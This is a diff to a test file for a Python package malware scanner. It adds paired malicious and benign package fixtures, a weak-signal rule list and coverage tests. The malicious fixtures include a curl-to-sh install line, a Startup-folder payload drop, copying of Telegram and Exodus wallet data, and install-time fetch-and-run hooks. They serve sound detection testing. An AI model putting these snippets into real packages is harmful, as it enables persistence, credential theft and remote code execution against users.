@@ -263,6 +263,70 @@ CASES: list[tuple[str, dict[str, str | bytes], dict[str, str | bytes], str]] = [
     ("code.unparsable-install",
      {"setup.py": "import os\nprint 'installing'\nos.system('curl http://203.0.113.3/x | sh')\n"},
      {"setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0')\n"}, "sdist"),
+    ("code.autostart-write",
+     {"demo/__init__.py": f"import os, base64\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', "
+                          f"'Start Menu', 'Programs', 'Startup', 'upd.pyw')\n"
+                          f"open(p, 'w').write(base64.b64decode('{b64(PAYLOAD)}').decode())\n"},
+     {"demo/__init__.py": "import json, os\n\ndef save(cache, data):\n"
+                          "    with open(os.path.join(cache, 'startup_times.json'), 'w') as f:\n"
+                          "        f.write(json.dumps(data))\n"}, "wheel"),
+    ("code.credential-stores",
+     {"demo/__init__.py": "import os, shutil\nHOME = os.path.expanduser('~')\n"
+                          "SOURCES = [os.path.join(os.getenv('APPDATA'), 'Telegram Desktop\\\\tdata'),\n"
+                          "           os.path.join(os.getenv('APPDATA'), 'Exodus\\\\exodus.wallet')]\n"
+                          "for src in SOURCES:\n    shutil.copytree(src, os.path.join(HOME, 'x'))\n"},
+     {"demo/__init__.py": "class Wallet:\n    \"\"\"A wallet of coupons for the demo shop.\"\"\"\n\n"
+                          "    def __init__(self):\n        self.items = []\n"}, "wheel"),
+    ("code.credential-store",
+     {"demo/__init__.py": "import os, subprocess\nTD = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop\\\\tdata')\n"
+                          "subprocess.run(['explorer', TD])\n"},
+     {"demo/__init__.py": "TELEGRAM_DOCS = 'https://core.telegram.org/bots/api'\n"}, "wheel"),
+    ("code.credential-files",
+     {"demo/aws.py": "import os\nimport requests\nCREDENTIALS = os.path.expanduser('~/.aws/credentials')\n\n"
+                     "def region():\n    return requests.get('https://metadata.example.invalid/region').text\n"},
+     {"demo/aws.py": "import os\nCONFIG = os.path.expanduser('~/.demo/config.toml')\n"}, "sdist"),
+    ("code.clipboard",
+     {"demo/copy.py": "import re, pyperclip\n\ndef copy(text):\n    if re.match('^[a-z]+$', text):\n"
+                      "        pyperclip.copy(text)\n"},
+     {"demo/copy.py": "import re\n\ndef copy(text):\n    return re.match('^[a-z]+$', text)\n"}, "sdist"),
+    ("code.download-executable",
+     {"demo/drivers.py": "import os, requests\nCACHE = os.environ.copy().get('DEMO_CACHE', '.')\n\ndef fetch(version):\n"
+                         "    r = requests.get('https://dl.example.invalid/' + version)\n"
+                         "    with open('driver.exe', 'wb') as out:\n        out.write(r.content)\n"},
+     {"demo/drivers.py": "import requests\n\ndef fetch(version):\n"
+                         "    r = requests.get('https://dl.example.invalid/' + version)\n"
+                         "    with open('driver.json', 'wb') as out:\n        out.write(r.content)\n"}, "sdist"),
+    ("code.download-run",
+     {"demo/vendor.py": "import subprocess, urllib.request\n\ndef build():\n"
+                        "    urllib.request.urlretrieve('https://src.example.invalid/lib.tar.gz', 'lib.tar.gz')\n"
+                        "    subprocess.check_call(['make', '-C', 'lib'])\n"},
+     {"demo/vendor.py": "import subprocess, urllib.request\n\ndef fetch():\n"
+                        "    urllib.request.urlretrieve('https://src.example.invalid/lib.tar.gz', 'lib.tar.gz')\n\n"
+                        "def build():\n    subprocess.check_call(['make', '-C', 'lib'])\n"}, "sdist"),
+    ("code.ip-lookup",
+     {"demo/geo.py": "import requests, subprocess\n\ndef where():\n    return requests.get('https://api.ipify.org').text\n"},
+     {"demo/geo.py": "import requests, subprocess\n\ndef where():\n"
+                     "    return requests.get('https://geo.example.invalid').text\n"}, "sdist"),
+    ("code.raw-ip-url",
+     {"demo/net.py": "import requests, subprocess\n\ndef ping():\n    return requests.get('http://198.51.100.7/ping')\n"},
+     {"demo/net.py": "import requests, subprocess\n\ndef ping():\n    return requests.get('http://127.0.0.1:8080/ping')\n"},
+     "sdist"),
+    ("install.exec",
+     {"setup.py": "import os\nfrom setuptools import setup\nexec(os.environ.get('DEMO_SETUP_HOOK', ''))\n"
+                  "setup(name='demo-pkg', version='1.0')\n"},
+     {"setup.py": "from setuptools import setup\nabout = {}\nexec(open('demo/__about__.py').read(), about)\n"
+                  "setup(name='demo-pkg', version=about['__version__'])\n"}, "sdist"),
+    ("install.fetch-and-run",
+     {"setup.py": hook("import subprocess\n"
+                       "subprocess.check_call(['git', 'clone', 'https://git.example.invalid/x.git'])\n"
+                       "subprocess.check_call(['python', 'x/run.py'])")},
+     {"setup.py": DATA_DOWNLOAD_SETUP + "\n" + BUILD_EXT_SETUP.split("\nversion =")[0]}, "sdist"),
+    ("install.pip-install",
+     {"setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
+                  "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helper-tool'])\n"
+                  "setup(name='demo-pkg', version='1.0')\n"},
+     {"setup.py": "from setuptools import setup\n"
+                  "setup(name='demo-pkg', version='1.0', install_requires=['helper-tool'])\n"}, "sdist"),
     # YARA rules
     ("yara.powershell-encoded",
      {"demo/run.bat": "powershell.exe -NoP -enc " + base64.b64encode("IEX x".encode("utf-16le") * 4).decode() + "\n"},
@@ -325,7 +389,9 @@ CASES: list[tuple[str, dict[str, str | bytes], dict[str, str | bytes], str]] = [
 WEAK_RULES = {"install.process", "install.network", "install.hook", "install.pth-exec", "code.unparsable-install",
               "code.shell-fetch", "yara.embedded-pe", "yara.embedded-elf", "yara.embedded-macho",
               "yara.pyarmor-protected", "code.encoded-blob", "code.exfil-endpoint", "code.anti-analysis",
-              "yara.discord-webhook-token", "yara.telegram-bot-exfil", "install.raw-socket"}
+              "yara.discord-webhook-token", "yara.telegram-bot-exfil", "install.raw-socket", "code.credential-store",
+              "code.credential-files", "code.clipboard", "code.download-executable", "code.download-run",
+              "code.ip-lookup", "code.raw-ip-url", "install.exec", "install.pip-install"}
 """Signals that add to others but are normal or inconclusive alone: they must fire, not quarantine alone."""
 
 
@@ -344,6 +410,16 @@ def test_rule_catches_malicious_and_passes_benign(
     assert benign.verdict == Verdict.ALLOW, (benign.score, [(f.rule, f.severity, f.excerpt) for f in benign.findings])
     if rule not in WEAK_RULES or rule.startswith("yara."):
         assert rule not in rules(benign), [(f.rule, f.excerpt) for f in benign.findings]
+
+
+def test_every_code_rule_has_a_case() -> None:
+    import re
+    from pathlib import Path
+
+    import bastion.scanning.code as code
+    declared = set(re.findall(r'add\(\s*"([a-z]+\.[a-z-]+)"', Path(code.__file__).read_text()))
+    assert len(declared) > 30
+    assert sorted(declared - {case[0] for case in CASES}) == []
 
 
 def test_every_yara_rule_has_a_case(scanner: Scanner) -> None:
@@ -429,3 +505,11 @@ def test_one_scanner_serves_many_threads(scanner: Scanner, scan_sdist: Callable[
         results = list(pool.map(scanner.scan, paths))
     assert [r.verdict != Verdict.ALLOW for r in results] == [True, False] * 20
     assert len({(r.score, tuple(r.findings)) for r in results[::2]}) == 1
+
+
+def test_one_rule_repeated_across_files_does_not_add_up(scan_sdist: Callable[..., ScanResult]) -> None:
+    """Launcher executables (pip, setuptools and distlib ship a dozen) are one observation, not twelve."""
+    pe = b"MZ" + b"\x90" * 58 + b"\x80\x00\x00\x00" + b"\x00" * 200
+    result = scan_sdist({f"demo/launchers/t{i}.exe": pe for i in range(40)})
+    assert sum(f.rule == "yara.embedded-pe" for f in result.findings) == 40
+    assert result.verdict == Verdict.ALLOW and result.score < 3.0
